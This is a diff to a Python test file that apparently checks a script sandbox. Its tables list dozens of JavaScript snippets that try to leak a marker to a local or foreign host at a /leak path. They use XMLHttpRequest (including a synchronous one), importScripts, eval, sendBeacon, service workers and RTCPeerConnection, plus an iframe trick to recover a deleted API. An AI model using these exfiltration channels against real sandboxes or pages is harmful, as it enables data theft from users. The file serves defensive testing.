@@ -17,7 +17,7 @@ the origin finds afterwards; something that another page is told, or that stands
 
 @dataclass(frozen=True)
 class Way:
-    """One way. One that is `alone` may take its page away, so it gets a page of its own."""
+    """One way. One that is `alone` may take its page away, or stop all else: it has a page, or a time, of its own."""
 
     name: str
     place: Place
@@ -50,6 +50,11 @@ XHR = """
     request.send(%s);
   });
 """
+XHR_THAT_WAITS = """
+      const request = new XMLHttpRequest();
+      request.open("GET", `${other}/leak?${mark}`, false);
+      request.send();
+    """
 WITHIN = """
   const text = `%s`;
   await new Promise((end, fail) => {
@@ -74,11 +79,6 @@ ANYWHERE: dict[str, str | tuple[str, Seen]] = {
     "fetch, a port": ("await fetch(`http://127.0.0.1:${port}/`)", "socket"),
     "XMLHttpRequest, own host": XHR % ("GET", "own", ""),
     "XMLHttpRequest, foreign host": XHR % ("POST", "other", "mark"),
-    "XMLHttpRequest that waits": """
-      const request = new XMLHttpRequest();
-      request.open("GET", `${other}/leak?${mark}`, false);
-      request.send();
-    """,
     "WebSocket, own host": SOCKET % ("own", ""),
     "WebSocket, foreign host": SOCKET % ("other", ""),
     "WebSocket, mark as protocol": "new WebSocket(own.replace('http', 'ws'), mark); await sleep(700)",
@@ -138,7 +138,9 @@ ANYWHERE: dict[str, str | tuple[str, Seen]] = {
     "cookieStore": ("await cookieStore.set(mark, '1')", "kept"),
 }
 
-WORKER: dict[str, str | tuple[str, Seen]] = {
+# While they last, all else in the worker waits.
+WORKER_WAITS: dict[str, str | tuple[str, Seen]] = {
+    "XMLHttpRequest that waits": XHR_THAT_WAITS,
     "importScripts, own host": "importScripts(`${own}/leak?${mark}`)",
     "importScripts, foreign host": "importScripts(`${other}/leak?${mark}`)",
     "importScripts of a blob that fetches": """
@@ -149,6 +151,8 @@ WORKER: dict[str, str | tuple[str, Seen]] = {
       importScripts(`data:text/javascript,${encodeURIComponent(`fetch("${other}/leak?${mark}")`)}`);
       await sleep(700);
     """,
+}
+WORKER: dict[str, str | tuple[str, Seen]] = {
     "a script made of a string": "await new Function('url', 'return fetch(url)')(`${own}/leak?${mark}`)",
     "eval": "await (0, eval)(`fetch('${own}/leak?${mark}')`)",
     "a string on a timer": "setTimeout(`fetch('${own}/leak?${mark}')`, 0); await sleep(700)",
@@ -165,7 +169,6 @@ WORKER: dict[str, str | tuple[str, Seen]] = {
     "sendBeacon": "navigator.sendBeacon(`${own}/leak?${mark}`)",
     "a service worker": "await navigator.serviceWorker.register(`${own}/leak?${mark}`)",
     "RTCPeerConnection": ("new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${port}` }] })", "socket"),
-    "a notification": "new Notification('x', { icon: `${own}/leak?${mark}` }); await sleep(700)",
     "fetchLater": "fetchLater(`${own}/leak?${mark}`, { activateAfter: 0 }); await sleep(700)",
     "window.open": "open(`${own}/leak?${mark}`)",
 }
@@ -294,9 +297,9 @@ LEAVING: dict[str, str] = {
 RTC = """
   // The frame's script has deleted it; a child frame would give it back.
   let Peer = self.RTCPeerConnection;
-  for (const text of ['<iframe></iframe>', '<iframe srcdoc="<p>x"></iframe>', '<iframe src="data:text/html,x"></iframe>']) {
+  for (const how of ['', 'srcdoc="<p>x"', 'src="data:text/html,x"', 'src="javascript:0"']) {
     if (Peer) break;
-    document.body.insertAdjacentHTML('beforeend', text);
+    document.body.insertAdjacentHTML('beforeend', `<iframe ${how}></iframe>`);
     try { Peer = document.body.lastElementChild.contentWindow.RTCPeerConnection; } catch {}
   }
   const peer = new Peer({ iceServers: [%s] });
@@ -309,6 +312,7 @@ RTC = """
 WINDOW: dict[str, str | tuple[str, Seen]] = {
     **{name: f"{PUT} put(`{text.strip()}`); await sleep(700)" for name, text in ELEMENTS.items()},
     **{name: (f"{PUT} put(`{text}`); await sleep(700)", "name") for name, text in NAMES.items()},
+    "XMLHttpRequest that waits": XHR_THAT_WAITS,
     "new Image": "new Image().src = `${other}/leak?${mark}`; await sleep(700)",
     "a style set by script": """
       document.getElementById('host').style.borderImage = `url('${other}/leak?${mark}') 1`; await sleep(700);
@@ -644,6 +648,7 @@ def _ways(place: Place, table: dict[str, str | tuple[str, Seen]], *, alone: bool
 
 WAYS = (
     *_ways("script", {**ANYWHERE, **WORKER}),
+    *_ways("script", WORKER_WAITS, alone=True),
     *_ways("python", PYTHON),
     *_ways("window", {**ANYWHERE, **WINDOW}),
     *_ways("window", dict(WINDOW_ALONE), alone=True),
